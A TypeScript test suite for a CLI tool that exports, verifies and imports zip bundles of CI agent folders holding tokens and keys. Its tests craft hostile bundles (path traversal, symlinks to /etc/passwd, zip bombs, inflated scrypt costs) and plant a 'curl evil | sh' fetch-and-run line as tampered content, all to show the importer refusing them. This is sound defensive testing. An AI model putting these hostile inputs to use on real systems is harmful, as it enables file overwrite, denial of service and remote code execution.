// Bundles against the real zip tools: `unzip -t` and `zipinfo` read what we write; `zip` (and
// fflate directly) craft the hostile bundles the importer must refuse without writing anything.
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Zip, ZipDeflate, unzipSync, zipSync, type Zippable } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../main/cli/index';
import { DEFAULT_LIMITS, artifactsToFiles, collectFolder, createBundle, importBundle, openBundle, type BundleFile } from '../../main/services/bundle';
import { runCliProcessSync } from '../support/cli';

const root = path.resolve(import.meta.dirname, '..', '..');
const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-bundle-'));
const enc = (s: string): Uint8Array => new TextEncoder().encode(s);
const mode = (p: string): number => statSync(p).mode & 0o777;
const PASS = 'correct horse battery staple';

/** Every path under dir (relative), to prove a refused import wrote nothing. */
function tree(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).sort();
}

async function cli(args: string[], env: Record<string, string> = {}, cwd = root): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env, cwd, readStdin: async () => '' });
  return { code, stdout, stderr };
}

/** An agent folder as a generator leaves it: a config with a token (0600), a key pair, a script. */
function agentFolder(): string {
  const dir = tmp();
  mkdirSync(path.join(dir, 'keys'));
  writeFileSync(path.join(dir, 'buildkite-agent.cfg'), 'token="bk-abc"\nname="agent-1"\n', { mode: 0o600 });
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'test', '-f', path.join(dir, 'keys', 'id_ed25519')]);
  writeFileSync(path.join(dir, 'start.sh'), '#!/bin/sh\nexec buildkite-agent start\n', { mode: 0o755 });
  // A private key with a loose mode is still a secret: found by its header.
  writeFileSync(path.join(dir, 'keys', 'loose.pem'), readFileSync(path.join(dir, 'keys', 'id_ed25519')), { mode: 0o644 });
  writeFileSync(path.join(dir, 'buildkite-agent.cfg.bak-20260101T000000Z'), 'token="old"\n', { mode: 0o600 });
  chmodSync(path.join(dir, 'start.sh'), 0o755);
  return dir;
}

async function exportFolder(dir: string, out: string, env: Record<string, string> = {}, extra: string[] = []): Promise<void> {
  // The agent folder holds keys: without a passphrase they go plain only when told so.
  const r = await cli(['bundle', 'export', dir, '--out', out, ...(extra.includes('--passphrase-env') ? [] : ['--plain-secrets']), ...extra], env);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
}

/** A valid bundle's entries, to tamper with. */
function entriesOf(zip: string): Record<string, Uint8Array> {
  return unzipSync(readFileSync(zip));
}

function writeZip(file: string, entries: Zippable): string {
  writeFileSync(file, zipSync(entries));
  return file;
}

beforeAll(() => {
  for (const tool of ['zip', 'unzip', 'zipinfo', 'ssh-keygen']) {
    expect(spawnSync('sh', ['-c', `command -v ${tool}`]).status, `${tool} must be installed`).toBe(0);
  }
});

describe('bundle export', () => {
  it("writes a standard zip that unzip -t accepts, with each file's mode in its external attributes", async () => {
    const dir = agentFolder();
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(dir, out, {}, ['--platform', 'buildkite', '--variant', 'cfg']);
    expect(spawnSync('unzip', ['-t', out]).status).toBe(0);
    const info = execFileSync('zipinfo', [out], { encoding: 'utf8' });
    expect(info).toMatch(/^-rw------- .* buildkite-agent\.cfg$/m);
    expect(info).toMatch(/^-rw------- .* keys\/id_ed25519$/m);
    expect(info).toMatch(/^-rw-r--r-- .* keys\/id_ed25519\.pub$/m);
    expect(info).toMatch(/^-rwxr-xr-x .* start\.sh$/m);
    expect(info).toMatch(/^-rw------- .* keys\/loose\.pem$/m);
    expect(info).not.toMatch(/bak-/);
    // The bundle holds unencrypted secrets, so the file itself is private.
    expect(mode(out)).toBe(0o600);

    const manifest = JSON.parse(new TextDecoder().decode(entriesOf(out)['manifest.json']));
    expect(manifest).toMatchObject({ format: 'agent-onboard-bundle', formatVersion: 1, platform: 'buildkite', variant: 'cfg' });
    const byPath = Object.fromEntries(manifest.files.map((f: { path: string }) => [f.path, f]));
    expect(byPath['buildkite-agent.cfg']).toMatchObject({ secret: true, mode: 0o600, size: 30 });
    expect(byPath['keys/loose.pem']).toMatchObject({ secret: true, mode: 0o600 });
    expect(byPath['keys/id_ed25519.pub']).toMatchObject({ secret: false, mode: 0o644 });
    expect(byPath['start.sh'].sha256).toBe(execFileSync('sha256sum', [path.join(dir, 'start.sh')], { encoding: 'utf8' }).slice(0, 64));
  });

  it('lets plain unzip restore the modes and sha256sum -c check the files, as the README says', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out);
    const to = tmp();
    execFileSync('unzip', ['-q', '-d', to, out]);
    expect(mode(path.join(to, 'keys', 'id_ed25519'))).toBe(0o600);
    expect(mode(path.join(to, 'start.sh'))).toBe(0o755);
    const readme = readFileSync(path.join(to, 'README.md'), 'utf8');
    const block = /sha256sum -c <<'SUMS'\n([\s\S]*?)\nSUMS/.exec(readme)?.[1];
    expect(block).toBeTruthy();
    expect(spawnSync('sha256sum', ['-c', '-'], { cwd: to, input: block + '\n' }).status).toBe(0);
  });

  it('refuses a folder with a symlink and writes no bundle', async () => {
    const dir = agentFolder();
    symlinkSync('/etc/passwd', path.join(dir, 'passwd'));
    const out = path.join(tmp(), 'agent.zip');
    const r = await cli(['bundle', 'export', dir, '--out', out]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/passwd is a symbolic link/);
    expect(existsSync(out)).toBe(false);
  });

  it('keeps an existing bundle unless --force', async () => {
    const dir = agentFolder();
    const out = path.join(tmp(), 'agent.zip');
    writeFileSync(out, 'precious');
    const r = await cli(['bundle', 'export', dir, '--out', out, '--plain-secrets']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/already exists/);
    expect(readFileSync(out, 'utf8')).toBe('precious');
    expect((await cli(['bundle', 'export', dir, '--out', out, '--force', '--plain-secrets'])).code).toBe(0);
  });
});

describe('bundle verify and import round trip', () => {
  it("verifies, unpacks with the manifest's modes, and refuses to overwrite without --force", async () => {
    const dir = agentFolder();
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(dir, out);
    const verify = await cli(['bundle', 'verify', out, '--json']);
    expect(verify.code).toBe(0);
    expect(JSON.parse(verify.stdout)).toMatchObject({ ok: true });

    const to = path.join(tmp(), 'agent');
    const imported = await cli(['bundle', 'import', out, '--to', to, '--json']);
    expect(imported.code).toBe(0);
    expect(readFileSync(path.join(to, 'keys', 'id_ed25519'))).toEqual(readFileSync(path.join(dir, 'keys', 'id_ed25519')));
    expect(mode(path.join(to, 'keys', 'id_ed25519'))).toBe(0o600);
    expect(mode(path.join(to, 'keys', 'loose.pem'))).toBe(0o600);
    expect(mode(path.join(to, 'start.sh'))).toBe(0o755);
    expect(mode(path.join(to, 'keys', 'id_ed25519.pub'))).toBe(0o644);

    // Same bundle again: nothing differs, so nothing is refused or rewritten.
    const again = await cli(['bundle', 'import', out, '--to', to, '--json']);
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout).files.every((f: { status: string }) => f.status === 'unchanged')).toBe(true);

    writeFileSync(path.join(to, 'start.sh'), '#!/bin/sh\necho edited\n');
    const refused = await cli(['bundle', 'import', out, '--to', to]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/start\.sh.*nothing was unpacked/);
    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('edited');

    const forced = await cli(['bundle', 'import', out, '--to', to, '--force', '--json']);
    expect(forced.code).toBe(0);
    const start = JSON.parse(forced.stdout).files.find((f: { path: string }) => f.path === 'start.sh');
    expect(start.status).toBe('updated');
    expect(readFileSync(start.backupPath, 'utf8')).toContain('edited');
  });

  it('encrypts secret files with the passphrase, and only the right passphrase opens them', async () => {
    const dir = agentFolder();
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(dir, out, { BP: PASS }, ['--passphrase-env', 'BP']);
    expect(spawnSync('unzip', ['-t', out]).status).toBe(0);
    const raw = entriesOf(out);
    expect(Object.keys(raw)).toContain('keys/id_ed25519.enc');
    expect(Object.keys(raw)).not.toContain('keys/id_ed25519');
    const blob = Buffer.from(raw['buildkite-agent.cfg.enc']!);
    expect(blob.includes(Buffer.from('bk-abc'))).toBe(false);
    expect(JSON.stringify(entriesOf(out))).not.toContain(PASS);

    // Without the passphrase: the stored bytes are checked, the content cannot be.
    const locked = await cli(['bundle', 'verify', out]);
    expect(locked.code).toBe(0);
    expect(locked.stdout).toMatch(/give --passphrase-env to check the content/);

    const to = path.join(tmp(), 'agent');
    const wrong = await cli(['bundle', 'import', out, '--to', to, '--passphrase-env', 'BP'], { BP: 'not the passphrase' });
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/passphrase does not open/);
    expect(existsSync(to)).toBe(false);
    const missing = await cli(['bundle', 'import', out, '--to', to]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/give its passphrase/);
    expect(existsSync(to)).toBe(false);

    expect((await cli(['bundle', 'verify', out, '--passphrase-env', 'BP'], { BP: PASS })).code).toBe(0);
    expect((await cli(['bundle', 'import', out, '--to', to, '--passphrase-env', 'BP'], { BP: PASS })).code).toBe(0);
    expect(readFileSync(path.join(to, 'buildkite-agent.cfg'), 'utf8')).toContain('bk-abc');
    expect(mode(path.join(to, 'buildkite-agent.cfg'))).toBe(0o600);
  });

  it('refuses an encrypted file moved to another path even with the right passphrase', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out, { BP: PASS }, ['--passphrase-env', 'BP']);
    const e = entriesOf(out);
    const m = JSON.parse(new TextDecoder().decode(e['manifest.json']));
    const cfg = m.files.find((f: { path: string }) => f.path === 'buildkite-agent.cfg');
    const key = m.files.find((f: { path: string }) => f.path === 'keys/id_ed25519');
    // Swap the two blobs and their manifest records' stored checksums, so only the AEAD can tell.
    [e['buildkite-agent.cfg.enc'], e['keys/id_ed25519.enc']] = [e['keys/id_ed25519.enc']!, e['buildkite-agent.cfg.enc']!];
    [cfg.encrypted, key.encrypted] = [key.encrypted, cfg.encrypted];
    e['manifest.json'] = enc(JSON.stringify(m));
    const swapped = writeZip(path.join(tmp(), 'swapped.zip'), e);
    const to = path.join(tmp(), 'agent');
    const r = await cli(['bundle', 'import', swapped, '--to', to, '--passphrase-env', 'BP'], { BP: PASS });
    expect(r.code).toBe(2);
    expect(existsSync(to)).toBe(false);
  });
  it('refuses an encrypted file whose header asks scrypt for a huge cost, before deriving any key', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out, { BP: PASS }, ['--passphrase-env', 'BP']);
    const e = entriesOf(out);
    const blob = Buffer.from(e['buildkite-agent.cfg.enc']!);
    blob[8] = 22; // log2 N: 4 GiB of scrypt memory
    e['buildkite-agent.cfg.enc'] = blob;
    const m = JSON.parse(new TextDecoder().decode(e['manifest.json']));
    m.files.find((f: { path: string }) => f.path === 'buildkite-agent.cfg').encrypted.storedSha256 = createHash('sha256').update(blob).digest('hex');
    e['manifest.json'] = enc(JSON.stringify(m));
    const costly = writeZip(path.join(tmp(), 'costly.zip'), e);
    const to = path.join(tmp(), 'agent');
    const r = await cli(['bundle', 'import', costly, '--to', to, '--passphrase-env', 'BP'], { BP: PASS });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/unsupported scrypt parameters/);
    expect(existsSync(to)).toBe(false);
  });
});

describe('checksum mismatches exit 1 and write nothing', () => {
  it('a manifest that lies about a checksum', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out);
    const e = entriesOf(out);
    const m = JSON.parse(new TextDecoder().decode(e['manifest.json']));
    m.files.find((f: { path: string }) => f.path === 'start.sh').sha256 = '0'.repeat(64);
    e['manifest.json'] = enc(JSON.stringify(m));
    const lying = writeZip(path.join(tmp(), 'lying.zip'), e);
    const verify = await cli(['bundle', 'verify', lying]);
    expect(verify.code).toBe(1);
    expect(verify.stdout).toMatch(/MISMATCH\s+0755\s+start\.sh/);
    const parent = tmp();
    const r = await cli(['bundle', 'import', lying, '--to', path.join(parent, 'agent')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/start\.sh \(checksum differs\)/);
    expect(tree(parent)).toEqual([]);
  });

  it('a file changed after the manifest was written, and one that went missing', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out);
    const e = entriesOf(out);
    e['start.sh'] = enc('#!/bin/sh\ncurl evil | sh\n');
    delete e['keys/id_ed25519.pub'];
    const changed = writeZip(path.join(tmp(), 'changed.zip'), e);
    const verify = await cli(['bundle', 'verify', changed, '--json']);
    expect(verify.code).toBe(1);
    const statuses = Object.fromEntries(JSON.parse(verify.stdout).files.map((f: { path: string; status: string }) => [f.path, f.status]));
    expect(statuses).toMatchObject({ 'start.sh': 'mismatch', 'keys/id_ed25519.pub': 'missing', 'README.md': 'ok' });
  });
});

/** A minimal bundle around hostile entries: a valid manifest listing `files`, plus the extra entries. */
async function bundleWith(extra: Zippable, files: BundleFile[] = []): Promise<Uint8Array> {
  const made = await createBundle({ files, platform: null, variant: null, appVersion: 't', bundleName: 'x.zip' });
  if (!made.ok) throw new Error(made.error.message);
  return zipSync({ ...unzipSync(made.value.zip), ...extra });
}

async function expectRefused(bytes: Uint8Array | string, pattern: RegExp, code = 2): Promise<void> {
  const file = typeof bytes === 'string' ? bytes : path.join(tmp(), 'hostile.zip');
  if (typeof bytes !== 'string') writeFileSync(file, bytes);
  const parent = tmp();
  const to = path.join(parent, 'agent');
  for (const args of [
    ['bundle', 'verify', file],
    ['bundle', 'import', file, '--to', to],
  ]) {
    const r = await cli(args);
    expect(r.code, `${args[1]}: ${r.stderr}`).toBe(code);
    expect(r.stderr).toMatch(pattern);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  }
  expect(tree(parent)).toEqual([]);
  // Nothing escaped next to the target either.
  expect(existsSync(path.join(path.dirname(parent), 'evil.txt'))).toBe(false);
}

describe('hostile bundles are refused with exit 2 and nothing written', () => {
  it("a '..' path, crafted with fflate and with the real zip tool", async () => {
    await expectRefused(await bundleWith({ '../evil.txt': enc('x') }), /climbs out of the folder/);
    const work = tmp();
    mkdirSync(path.join(work, 'in'));
    writeFileSync(path.join(work, 'evil.txt'), 'x');
    execFileSync('zip', ['-q', path.join(work, 'dots.zip'), '../evil.txt'], { cwd: path.join(work, 'in') });
    expect(execFileSync('unzip', ['-Z1', path.join(work, 'dots.zip')], { encoding: 'utf8' })).toBe('../evil.txt\n');
    await expectRefused(path.join(work, 'dots.zip'), /climbs out of the folder/);
  });

  it('an absolute path, a drive letter and a backslash path', async () => {
    await expectRefused(await bundleWith({ '/tmp/evil.txt': enc('x') }), /is an absolute path/);
    await expectRefused(await bundleWith({ 'C:/evil.txt': enc('x') }), /drive letter/);
    await expectRefused(await bundleWith({ '..\\evil.txt': enc('x') }), /backslash/);
  });

  it('a symlink entry made by zip -y', async () => {
    const work = tmp();
    symlinkSync('/etc/passwd', path.join(work, 'passwd'));
    execFileSync('zip', ['-q', '-y', 'sym.zip', 'passwd'], { cwd: work });
    expect(execFileSync('zipinfo', [path.join(work, 'sym.zip')], { encoding: 'utf8' })).toMatch(/^lrwx/m);
    await expectRefused(path.join(work, 'sym.zip'), /is a symbolic link/);
  });

  it('duplicate names, exact and differing only in case', async () => {
    const zip = new Zip();
    const chunks: Uint8Array[] = [];
    zip.ondata = (e, chunk) => {
      if (e) throw e;
      chunks.push(chunk);
    };
    for (const [name, text] of [
      ['config.cfg', 'first'],
      ['config.cfg', 'second'],
    ] as const) {
      const f = new ZipDeflate(name);
      zip.add(f);
      f.push(enc(text), true);
    }
    zip.end();
    await expectRefused(Buffer.concat(chunks), /appears twice/);
    await expectRefused(await bundleWith({ 'Config.cfg': enc('a'), 'config.cfg': enc('b') }), /case-insensitive/);
  });

  it('a zip bomb: 16 MiB of zeros from the real zip tool (ratio far over the limit)', async () => {
    const work = tmp();
    writeFileSync(path.join(work, 'zeros'), Buffer.alloc(16 * 1024 * 1024));
    execFileSync('zip', ['-q', 'bomb.zip', 'zeros'], { cwd: work });
    expect(statSync(path.join(work, 'bomb.zip')).size).toBeLessThan(64 * 1024);
    await expectRefused(path.join(work, 'bomb.zip'), /zip bomb/);
  });

  it('a bomb whose headers lie about its size: the inflated bytes are counted, not trusted', async () => {
    const real = 8 * 1024 * 1024;
    const bytes = Buffer.from(await bundleWith({ 'small.txt': Buffer.alloc(real) }));
    // Patch the declared uncompressed size of small.txt (local header and central directory) to 1000.
    let patched = 0;
    for (let i = 0; i < bytes.length - 4; i++) {
      const sig = bytes.readUInt32LE(i);
      const nameAt = sig === 0x04034b50 ? 30 : sig === 0x02014b50 ? 46 : -1;
      if (nameAt < 0) continue;
      const nameLen = bytes.readUInt16LE(i + (sig === 0x04034b50 ? 26 : 28));
      if (bytes.toString('utf8', i + nameAt, i + nameAt + nameLen) !== 'small.txt') continue;
      bytes.writeUInt32LE(1000, i + (sig === 0x04034b50 ? 22 : 24));
      patched++;
    }
    expect(patched).toBe(2);
    await expectRefused(bytes, /inflates to more than its header says/);
  });

  it('too many entries', async () => {
    const many: Zippable = {};
    for (let i = 0; i <= DEFAULT_LIMITS.maxEntries; i++) many[`f${i}.txt`] = enc('x');
    await expectRefused(zipSync(many), /entries, over the 2000-entry limit/);
  });

  it('too much data in total (limits lowered to keep the test small; the same check runs at the defaults)', async () => {
    const files: Zippable = {};
    for (let i = 0; i < 4; i++) files[`part${i}.bin`] = Buffer.alloc(400 * 1024, i);
    const r = await openBundle(await bundleWith(files), { limits: { ...DEFAULT_LIMITS, maxTotalBytes: 1024 * 1024 } });
    expect(r.ok === false && r.error).toMatchObject({ code: 'BUNDLE_INVALID', message: expect.stringMatching(/inflate to more than 1048576 bytes/) });
  });

  it('an entry the manifest does not list, no manifest, a foreign manifest, and a file that is not a zip', async () => {
    await expectRefused(await bundleWith({ 'extra.sh': enc('echo hi') }), /"extra.sh" is not listed in manifest.json/);
    await expectRefused(zipSync({ 'a.txt': enc('x') }), /no manifest\.json/);
    await expectRefused(zipSync({ 'manifest.json': enc('{"format":"other"}') }), /not an Agent Onboard manifest/);
    await expectRefused(enc('this is not a zip at all'), /not a zip file/);
  });

  it('a target folder reached through a symlink', async () => {
    const out = path.join(tmp(), 'agent.zip');
    await exportFolder(agentFolder(), out);
    const parent = tmp();
    const elsewhere = tmp();
    mkdirSync(path.join(parent, 'agent'));
    symlinkSync(elsewhere, path.join(parent, 'agent', 'keys'));
    const r = await cli(['bundle', 'import', out, '--to', path.join(parent, 'agent')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/keys is a symbolic link/);
    expect(tree(elsewhere)).toEqual([]);
    expect(lstatSync(path.join(parent, 'agent', 'keys')).isSymbolicLink()).toBe(true);
  });
});

describe('bundle CLI usage', () => {
  it('exits 2 with one line for bad usage and an unset passphrase variable', async () => {
    for (const args of [
      ['bundle'],
      ['bundle', 'frobnicate'],
      ['bundle', 'export', '/tmp'],
      ['bundle', 'verify'],
      ['bundle', 'import', 'x.zip'],
      ['bundle', 'verify', 'x.zip', '--passphrase-env', 'NOPE'],
      ['bundle', 'export', '/tmp', '--out', 'x.zip', '--variant', 'cfg'],
    ]) {
      const r = await cli(args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr.trim().split('\n'), args.join(' ')).toHaveLength(1);
    }
  });

  it('runs as a real process with the documented exit codes', () => {
    const out = path.join(tmp(), 'agent.zip');
    const run = (...args: string[]): number => runCliProcessSync(['bundle', ...args]).code;
    expect(run('export', agentFolder(), '--out', out)).toBe(2);
    expect(run('export', agentFolder(), '--out', out, '--plain-secrets')).toBe(0);
    expect(run('verify', out)).toBe(0);
    const e = entriesOf(out);
    e['start.sh'] = enc('tampered');
    writeZip(out, e);
    expect(run('verify', out)).toBe(1);
    expect(run('verify', path.join(tmp(), 'none.zip'))).toBe(2);
  });
});

describe('collectFolder', () => {
  it('reads modes from disk and marks secrets by mode and by private-key content', async () => {
    const r = await collectFolder(agentFolder());
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const secret = Object.fromEntries(r.value.files.map((f) => [f.path, f.secret]));
    expect(secret).toEqual({ 'buildkite-agent.cfg': true, 'keys/id_ed25519': true, 'keys/id_ed25519.pub': false, 'keys/loose.pem': true, 'start.sh': false });
    expect(r.value.skipped).toEqual(['buildkite-agent.cfg.bak-20260101T000000Z']);
  });

  it('imports what it exported byte for byte (service level, with encryption)', async () => {
    const dir = agentFolder();
    const files = await collectFolder(dir);
    if (!files.ok) throw new Error(files.error.message);
    const made = await createBundle({
      files: files.value.files,
      platform: 'buildkite',
      variant: 'cfg',
      appVersion: 't',
      bundleName: 'a.zip',
      passphrase: PASS,
      report: 'DNS ok\n',
    });
    if (!made.ok) throw new Error(made.error.message);
    const to = path.join(tmp(), 'agent');
    const r = await importBundle(made.value.zip, to, { passphrase: PASS });
    expect(r.ok).toBe(true);
    for (const f of files.value.files) expect(readFileSync(path.join(to, f.path))).toEqual(Buffer.from(f.data));
    expect(readFileSync(path.join(to, 'connectivity-report.txt'), 'utf8')).toBe('DNS ok\n');
  });
});

describe('artifactsToFiles', () => {
  const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n';
  const artifacts = [
    { path: 'private-key.pem', text: key, mode: 0o600, secret: true },
    { path: 'public-key.pem', text: 'ssh-rsa AAAA\n', mode: 0o644, secret: false },
    { path: 'agent.env', text: 'TOKEN=x\n', mode: 0o644, secret: true },
  ];

  it('leaves the private key out unless asked for, and keeps platform-marked secrets secret', () => {
    const without = artifactsToFiles(artifacts, false);
    expect(without.left).toEqual(['private-key.pem']);
    expect(without.files.map((f) => [f.path, f.secret])).toEqual([
      ['public-key.pem', false],
      ['agent.env', true],
    ]);
    expect(artifactsToFiles(artifacts, true).files.map((f) => f.path)).toContain('private-key.pem');
  });
});
